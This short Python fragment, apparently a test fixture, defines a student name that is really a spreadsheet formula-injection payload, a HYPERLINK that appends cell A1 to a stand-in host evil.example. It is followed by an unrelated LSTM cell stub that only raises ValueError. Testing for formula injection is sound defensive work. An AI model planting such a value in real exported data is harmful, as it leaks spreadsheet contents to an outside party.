"""The student is called like a formula: a spreadsheet that opens the marks would calculate it."""

STUDENT = "=HYPERLINK(\"http:evil.example?\"&A1,\"click\")"


def lstm_cell(x, state, weight_ih, weight_hh, bias_ih=None, bias_hh=None):
    raise ValueError
